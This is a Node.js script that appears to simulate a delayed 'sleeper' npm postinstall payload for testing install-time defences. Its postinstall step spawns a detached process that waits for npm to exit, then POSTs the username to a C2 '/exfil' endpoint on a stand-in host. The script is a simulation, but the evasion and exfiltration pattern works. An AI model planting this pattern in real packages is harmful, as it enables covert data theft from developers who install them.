// guarded-install attack simulation (harmless): delayed ("sleeper") payload.
// Steps:
//   1. postinstall (`node sleeper.js "$PPID"`): find the npm process (the first
//      ancestor whose name is npm..., else the $PPID the shell passed), start
//      `node sleeper.js --wait <npm pid>` detached (setsid), exit at once.
//      The install script itself looks innocent and ends in ~0.1 s.     (t = 0)
//   2. the detached process polls every 200 ms until npm has exited (gives up
//      after 120 s)
//   3. 0.5 s after npm is gone: POST to the C2 /exfil (Host: sleeper-c2.invalid)
//   4. writes the marker $TMPDIR/.sim-sleeper-fired (JSON: firedAt, npmPid,
//      c2Status) and exits.
// Connections go only to 203.0.113.45 (the local C2 stub).
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { guard, sleep, c2Request, step } = require('./sim-guard.js');

const SIM = 'sleeper';
guard(__dirname, SIM);

function stat(pid) {
  try {
    const s = fs.readFileSync(`/proc/${pid}/stat`, 'utf8');
    const close = s.lastIndexOf(')');
    const [state, ppid] = s.slice(close + 2).split(' ');
    return { comm: s.slice(s.indexOf('(') + 1, close), state, ppid: Number(ppid) };
  } catch {
    return undefined;
  }
}

function alive(pid) {
  const s = stat(pid);
  return s !== undefined && s.state !== 'Z' && s.state !== 'X';
}

function findNpm(fallback) {
  let pid = process.ppid;
  for (let i = 0; i < 12 && pid > 1; i++) {
    const s = stat(pid);
    if (!s) break;
    if (/^npm( |$)/.test(s.comm) || /^npm( |$)/.test(fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[0] || '')) return pid;
    pid = s.ppid;
  }
  return fallback;
}

async function waitAndFire(npmPid) {
  const deadline = Date.now() + 120_000;
  while (alive(npmPid)) {
    if (Date.now() > deadline) return;
    await sleep(200);
  }
  await sleep(500);
  let c2Status = null;
  try {
    const res = await c2Request({ method: 'POST', urlPath: '/exfil', host: 'sleeper-c2.invalid', body: { woke: 'npm exited', npmPid, user: os.userInfo().username } });
    c2Status = res.status;
  } catch (error) {
    c2Status = String(error.message);
  }
  fs.writeFileSync(path.join(os.tmpdir(), '.sim-sleeper-fired'), `${JSON.stringify({ firedAt: Date.now(), npmPid, c2Status })}\n`);
}

if (process.argv[2] === '--wait') {
  waitAndFire(Number(process.argv[3])).catch(() => {});
} else {
  const npmPid = findNpm(Number(process.argv[2]) || process.ppid);
  const child = spawn(process.execPath, [__filename, '--wait', String(npmPid)], { detached: true, stdio: 'ignore' });
  child.unref();
  step(SIM, `sleeper started detached, pid ${child.pid}, waiting for npm pid ${npmPid}`);
}
